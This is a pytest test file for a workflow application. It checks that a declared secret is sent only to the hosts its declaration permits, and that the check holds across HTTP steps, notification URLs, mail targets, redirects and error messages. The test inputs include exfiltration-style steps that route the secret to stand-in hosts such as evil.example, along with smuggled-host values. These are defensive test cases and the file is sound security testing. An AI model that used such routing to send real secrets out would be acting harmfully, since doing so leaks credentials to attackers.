"""A secret goes only where its declaration permits, at saving and at sending."""

from __future__ import annotations

from typing import Any

import pytest

from hanbeon.domain.actor import acting
from hanbeon.errors import InvalidInput
from hanbeon.outbound.secrets import SecretSource
from tests.outbound.mail import PASSWORD, USER, smtp_server
from tests.outbound.web import Web, reply
from tests.surfaces.workflows.workflow_kit import WorkflowKit, message, statuses

VALUE = "payroll-k3y-9f8e7d"
KEY = "{{ secrets.KEY }}"
HOST = "https://api.example.org"
MAIL = "mail.example.org"


def _by(user: str, *, admin: bool) -> Any:
    return acting(user, "rest", "workflows.create", admin=admin)


def _declare(kit: WorkflowKit, *hosts: str, use: tuple[str, ...] = ()) -> None:
    kit.app.secrets.declare({"KEY": SecretSource(env="TEST_KEY", hosts=hosts, use=use)})


@pytest.fixture(autouse=True)
def _value(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TEST_KEY", VALUE)


def _http(url: str = HOST, **fields: Any) -> dict[str, Any]:
    return {"type": "http", "url": url, **fields}


USES = [
    _http(f"{HOST}/x?k={KEY}"),
    _http(headers={"X-Key": f"Bearer {KEY}"}),
    _http(body={"a": [KEY]}),
    message(f"json://api.example.org/{KEY}"),
    message("", recipients=[{"target": f"json://api.example.org/{KEY}"}]) | {"target": "json://other.example"},
    message("KEY"),
]


async def test_undeclared_secret_is_for_admins(sqlite_workflows: WorkflowKit) -> None:
    _declare(sqlite_workflows)
    for step in USES:
        with _by("ada", admin=True):
            made = await sqlite_workflows.make(step)
        with _by("bob", admin=False):
            with pytest.raises(InvalidInput, match="must be saved by an admin, because the secret KEY"):
                await sqlite_workflows.make(step)
            # Nor does a change by a user ride on what an admin has saved.
            with pytest.raises(InvalidInput, match="must be saved by an admin"):
                await sqlite_workflows.workflows.change(made, steps=[step, _http("https://evil.example")])
            changed = await sqlite_workflows.workflows.change(made, name="other")
            assert changed.name == "other"
    with _by("bob", admin=False), pytest.raises(InvalidInput, match=r"notifications\[0\]"):
        await sqlite_workflows.make(_http(), notifications=[f"json://evil.example/{KEY}"])


@pytest.mark.parametrize(
    ("hosts", "use", "step", "fits"),
    [
        *(((host,), (), step, True) for host in ("api.example.org", "*.example.org") for step in USES),
        *(((host,), (), step, False) for host in ("example.org", "*.api.example.org", "evil") for step in USES[:5]),
        (("api.example.org:8443",), (), _http(f"{HOST}:8443/{KEY}"), True),
        (("api.example.org:8443",), (), _http(f"{HOST}/{KEY}"), False),
        (("*.example.org:443",), (), _http(f"{HOST}/{KEY}"), True),
        (("[2001:db8::1]",), (), _http(f"https://[2001:DB8:0::1]/{KEY}"), True),
        (("api.example.org",), (), _http(f"https://API.example.org/{KEY}"), True),
        (("api.example.org",), (), _http(f"https://api.example.org.evil.example/{KEY}"), False),
        (("api.example.org",), ("target",), _http(f"{HOST}/{KEY}"), False),
        (("api.example.org",), ("http",), message(f"json://api.example.org/{KEY}"), False),
        ((), ("target",), message("KEY"), True),
        ((), ("target",), message(f"json://api.example.org/{KEY}"), False),
        ((), ("http",), _http(f"{HOST}/{KEY}"), False),
        (("slack://",), (), message(f"slack://{KEY}"), True),
        (("slack",), (), message(f"slack://{KEY}"), False),
        ((MAIL,), (), message(f"mailtos://ada:{KEY}@{MAIL}?to=a@example.org"), True),
        ((MAIL,), (), message(f"mailtos://ada@{MAIL}?pass={KEY}&to=a@example.org"), True),
        # It would be a host of their own, or a mail to themselves that shows it.
        ((MAIL,), (), message(f"mailtos://ada:{KEY}@{MAIL}?to=a@example.org&smtp=evil.example"), False),
        ((MAIL,), (), message(f"mailtos://ada:x@{MAIL}?to={KEY}@evil.example"), False),
        ((MAIL,), (), message(f"mailtos://ada:x@{MAIL}?to=a@evil.example&name={KEY}"), False),
        ((MAIL,), (), message(f"mailtos://{KEY}:x@{MAIL}?to=a@evil.example"), False),
        ((MAIL,), (), message(f"mailtos://{KEY}:x@{MAIL}?to=a@evil.example&from=Ada"), False),
        ((MAIL,), (), message(f"mailtos://{KEY}:x@{MAIL}?to=a@evil.example&from=b@example.org"), True),
        *(
            ((MAIL,), (), message(f"mailtos://{KEY}:x@{MAIL}?to=a@evil.example&{sender}"), False)
            # The library takes none of them for an address, and the user for the sender.
            for sender in ("from=@b", "from=b@example.org&from=Ada", "from=Ada%3Cb@%3E", "from=a%20b@", "from=")
        ),
        # The host is written, and the library connects to another.
        (("api.example.org",), (), message(f"ntfys://api.example.org/public?mode=cloud&click={KEY}"), False),
        (("api.example.org",), (), message(f"ntfys://api.example.org?click={KEY}"), False),
        (("api.example.org",), (), message(f"ntfys://api.example.org/topic?click={KEY}"), True),
        (("*.example.org",), (), message(f"matrixs://{KEY}@a.example.org?mode=t2bot&token={'a' * 64}"), False),
        (("*.example.org",), (), message(f"zulip://bot@team.example.org/{KEY}"), True),
        (("team",), (), message(f"zulip://bot@team/{'a' * 32}/{KEY}"), False),
        (("*.example.org",), (), message(f"zulip://bot@evil.net%2F.example.org/{'a' * 32}/{KEY}"), False),
        (("team.zulipchat.com",), (), message(f"zulip://bot@team/{'a' * 32}/{KEY}"), True),
        (("[2001:db8::1]",), (), message(f"json://[2001:DB8:0::1]/{KEY}"), True),
    ],
)
async def test_declared_secret_goes_to_its_hosts(
    sqlite_workflows: WorkflowKit, hosts: tuple[str, ...], use: tuple[str, ...], step: dict[str, Any], fits: bool
) -> None:
    _declare(sqlite_workflows, *hosts, use=use)
    with _by("bob", admin=False):
        if fits:
            await sqlite_workflows.make(step)
            return
        with pytest.raises(InvalidInput, match="the secret KEY"):
            await sqlite_workflows.make(step)


async def test_receiver_of_a_secret_is_fixed(sqlite_workflows: WorkflowKit) -> None:
    """A run gets variables from its starter, also of a workflow that an admin has saved."""
    _declare(sqlite_workflows)
    for target in (f"json://{{{{ host }}}}/{KEY}", f"mailtos://a:{KEY}@{MAIL}?to=a@b.example&smtp={{{{ host }}}}"):
        with pytest.raises(InvalidInput, match=r"steps\[0\].target: must have a fixed host"):
            await sqlite_workflows.make(message(target), variables={"host": "a.example"})
    await sqlite_workflows.make(
        message(f"mailtos://a:{KEY}@{MAIL}?to={{{{ to }}}}"), message(f"json://a.example/{{{{ to }}}}/{KEY}"),
        variables={"to": "a@example.org"},
    )  # fmt: skip


@pytest.mark.parametrize("trusted", [True, False])
async def test_value_becomes_no_secret(
    workflow_kit: WorkflowKit, monkeypatch: pytest.MonkeyPatch, trusted: bool
) -> None:
    """A value reads like the place of a secret, for a mail to the user who started the run."""
    monkeypatch.setenv("TEST_KEY", PASSWORD)
    _declare(workflow_kit, "127.0.0.1")
    async with smtp_server(login=True) as mailbox:
        login = f"mailto://{USER}:{KEY}@127.0.0.1:{mailbox.port}?mode=insecure&from=a@example.org&to=eve@evil.example"
        with _by("ada", admin=trusted):
            made = await workflow_kit.make(message(f"{login}&name={{{{ v }}}}", retries=0), variables={"v": "x"})
        for value in (KEY, KEY.replace(" ", ""), "plain"):
            await workflow_kit.workflows.execute(made.id, variables={"v": value})
            await workflow_kit.kit.run_all()
        assert [str(mail["From"]).partition(" <")[0].strip('"') for mail in mailbox.messages] == [
            KEY, KEY.replace(" ", ""), "plain"
        ]  # fmt: skip
        assert all(PASSWORD not in str(mail) for mail in mailbox.messages)


async def test_value_moves_no_login_into_the_sender(workflow_kit: WorkflowKit, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TEST_KEY", USER)
    _declare(workflow_kit, "127.0.0.1")
    async with smtp_server() as mailbox:
        target = (
            f"mailto://{KEY}@127.0.0.1:{mailbox.port}?mode=insecure&from={{{{ v }}}}@example.org&to=eve@evil.example"
        )
        with _by("bob", admin=False):
            made = await workflow_kit.make(message(target, retries=0), variables={"v": "a"})
        for value in ("a b<", "a", ""):
            await workflow_kit.workflows.execute(made.id, variables={"v": value})
            await workflow_kit.kit.run_all()
        assert [str(mail["From"]) for mail in mailbox.messages] == ["a@example.org"]
        failed = [run for run in await workflow_kit.runs(made) if run.status == "failed"]
        assert all("must have secrets in its login only" in (run.error_message or "") for run in failed)


async def test_sending_is_checked_again(workflow_kit: WorkflowKit) -> None:
    """The declaration may have changed since the workflow was saved."""
    async with Web(*[reply(200)] * 9) as web:
        steps = [
            _http(f"{web.url}/{KEY}", on_error="continue"),
            message(f"json://127.0.0.1:{web.port}/{KEY}", on_error="continue"),
        ]
        _declare(workflow_kit, "127.0.0.1")
        with _by("bob", admin=False):
            made = await workflow_kit.make(*steps)
        for hosts, use in ((("api.example.org",), ()), ((), ()), (("127.0.0.1:1",), ()), ((), ("http", "target"))):
            _declare(workflow_kit, *hosts, use=use)
            run = await _executed(workflow_kit, made.id)
            assert [status for _, status, _ in statuses(run)] == ["failed"] * 2, (hosts, run.steps)
            assert all("secret KEY" in (step.error_message or "") for step in run.steps), run.steps
        assert web.seen == []
        _declare(workflow_kit, f"127.0.0.1:{web.port}")
        run = await _executed(workflow_kit, made.id)
        assert [status for _, status, _ in statuses(run)] == ["completed"] * 2, run.steps
        assert [each.target for each in web.seen] == [f"/{VALUE}"] * 2


@pytest.mark.parametrize("status", [302, 307, 308])
async def test_secret_follows_no_redirect_elsewhere(workflow_kit: WorkflowKit, status: int) -> None:
    async with Web(*[reply(200)] * 9) as other:
        away = reply(status, "", {"Location": f"{other.url}/x"})
        async with Web(*[away] * 9) as web:
            for hosts in ((), (f"127.0.0.1:{web.port}",)):
                _declare(workflow_kit, *hosts)
                run = await workflow_kit.run(
                    _http(f"{web.url}/a", body=KEY, method="PUT", on_error="continue"),
                    message(f"json://127.0.0.1:{web.port}/?+X-Key={KEY}", on_error="continue", retries=0),
                    # Without its headers, a request takes no secret along.
                    _http(f"{web.url}/b", headers={"X-Key": KEY}, on_error="continue"),
                )
                assert [state for _, state, _ in statuses(run)] == ["failed", "failed", "completed"], run.steps
            assert all(VALUE not in f"{each.target}{each.headers}{each.body!r}" for each in other.seen), other.seen
            _declare(workflow_kit, "127.0.0.1")
            run = await workflow_kit.run(_http(f"{web.url}/a", body=KEY, method="PUT" if status > 302 else "GET"))
            assert run.status == "completed", run.steps
            assert other.seen[-1].body in (VALUE.encode(), b"")


@pytest.mark.parametrize("repeated", ["{}", "k3y-in-another-form", ""])
async def test_secret_of_a_url_follows_no_redirect(workflow_kit: WorkflowKit, repeated: str) -> None:
    """A page that redirects to its parameter writes it in its own way."""
    async with Web(reply(200)) as other:
        async with Web(reply(302, "", {"Location": f"{other.url}/{repeated.format(VALUE)}"})) as web:
            _declare(workflow_kit, f"127.0.0.1:{web.port}")
            run = await workflow_kit.run(_http(f"{web.url}/to?url={other.url}/{KEY}", retries=0))
        assert run.status == "failed"
        assert "must not redirect the secret KEY" in (run.error_message or "")
        assert other.seen == []


async def test_errors_quote_no_answer_to_a_secret(workflow_kit: WorkflowKit) -> None:
    """Nor one to an output that came from a secret: an error is seen by every token."""
    backwards = VALUE[::-1]
    async with Web(reply(200, backwards), reply(400, backwards), reply(400, backwards), reply(400, "plain")) as web:
        _declare(workflow_kit, "127.0.0.1")
        run = await workflow_kit.run(
            _http(f"{web.url}/{KEY}", name="first"),
            _http(web.url, body="{{ steps.first.body }}", on_error="continue", retries=0),
            message(f"json://127.0.0.1:{web.port}/{KEY}", on_error="continue", retries=0),
            _http(web.url, on_error="continue", retries=0),
        )
        assert [status for _, status, _ in statuses(run)] == ["completed", "failed", "failed", "failed"]
        assert backwards not in f"{[(step.error_message, step.deliveries) for step in run.steps]}"
        assert "plain" in (run.steps[3].error_message or "")


async def test_secret_target_stays_within_its_hosts(workflow_kit: WorkflowKit, monkeypatch: pytest.MonkeyPatch) -> None:
    async with smtp_server() as mailbox:
        monkeypatch.setenv("TEST_KEY", mailbox.target())
        for hosts, expected in ((("api.example.org",), "failed"), (("127.0.0.1",), "completed"), ((), "completed")):
            _declare(workflow_kit, *hosts, use=("target",))
            with _by("bob", admin=False):
                made = await workflow_kit.make(message("KEY", on_error="continue"))
            assert statuses(await _executed(workflow_kit, made.id))[0][1] == expected
        assert len(mailbox.messages) == 2


async def test_office_targets_keep_to_the_hosts(sqlite_workflows: WorkflowKit) -> None:
    """Only admins save offices."""
    target = "json://api.example.org/{{secrets.KEY}}"
    for number, hosts in enumerate(((), ("api.example.org",))):
        _declare(sqlite_workflows, *hosts)
        await sqlite_workflows.app.offices.create(name=f"office{number}", notifications=[target])
    _declare(sqlite_workflows, "other.example.org")
    with pytest.raises(InvalidInput, match=r"notifications\[0\]: must not send the secret KEY to api.example.org"):
        await sqlite_workflows.app.offices.create(name="b", notifications=[target])


async def _executed(kit: WorkflowKit, workflow_id: str) -> Any:
    await kit.workflows.execute(workflow_id)
    await kit.kit.run_all()
    return (await kit.workflows.runs(workflow_id)).items[0]
